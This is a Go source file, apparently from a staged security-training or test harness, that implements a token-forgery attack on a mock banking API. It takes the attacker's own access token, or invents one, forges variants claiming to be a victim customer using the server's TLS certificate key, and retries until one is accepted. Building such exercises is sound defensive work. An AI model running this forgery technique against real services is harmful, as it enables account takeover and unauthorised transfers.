package attacker

import (
	"context"
	"errors"
	"fmt"
	"time"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/forge"
	"keyladder/stages/mechanism/token"
	"keyladder/stages/protect"
)

// inventedToken is like those of the stage's issuer, but for the key that signs it.
func inventedToken(g *attack.Given) (string, error) {
	now := time.Now().Truncate(time.Second)
	return token.NewKey().Sign(token.Claims{
		Issuer: g.Auth + "/" + g.Stage.Slug, Subject: g.User, Audience: []string{g.TLS + "/" + g.Stage.Slug + "/v1"}, ClientID: "harbour-mobile",
		Issued: now, Expires: now.Add(time.Hour), ID: token.NewID(), Scope: "accounts:read transfers:write",
	})
}

// tokenForge gets a token as any customer does, and makes others out of it that say that the
// user is the victim. A token carries with it what a server would have to look up otherwise,
// and even how it wants to be verified. All that keeps its bearer from changing that is that
// the server decides beforehand what it believes.
//
//keyladder:code attack-token-forge
func tokenForge(ctx context.Context, g *attack.Given) (attack.Result, error) {
	p, err := attack.NewProgram(g, protect.Identity{ClientID: g.ClientID})
	if err != nil {
		return attack.Result{}, err
	}
	defer p.Close()
	if err := p.Enter(ctx); err != nil {
		return attack.Stopped(err)
	}
	own, whence := p.Caller.Identity().Token, "Signed in as ourselves, and took our own token apart: header, claims, signature."
	if own == "" { // the issuer gives none to a program without the app's secret
		if own, err = inventedToken(g); err != nil {
			return attack.Result{}, err
		}
		whence = "The issuer gives a token to nobody without the app's secret. Made one up, as the issuer's metadata and RFC 9068 say what is in one."
	}
	dressed, err := p.Caller.Dress(protect.Call{Path: "/v1/accounts"})
	if err != nil {
		return attack.Result{}, err
	}
	response, _, err := p.Send(ctx, dressed)
	if err != nil {
		return attack.Result{}, err
	}
	if response.TLS == nil || len(response.TLS.PeerCertificates) == 0 {
		return attack.Result{}, errors.New("the API showed no certificate whose public key could be tried")
	}
	forgeries, err := forge.For(aCustomer, own, response.TLS.PeerCertificates[0])
	if err != nil {
		return attack.Result{}, err
	}
	g.Say("%s Made %d tokens for %s out of it.", whence, len(forgeries), aCustomer)
	for _, forged := range forgeries {
		if err = p.Show(func(as *protect.Identity) { as.Token = forged.Token }); err != nil {
			return attack.Result{}, err
		}
		err = p.Rob(ctx)
		var refused *attack.Refusal
		switch {
		case err == nil:
			g.Say("Served: %s.", forged.What)
			return attack.Result{Claim: true}, nil
		case !errors.As(err, &refused):
			return attack.Result{}, fmt.Errorf("%s: %w", forged.What, err)
		}
		g.Say("Refused: %s.", forged.What)
	}
	return attack.Stopped(err)
}
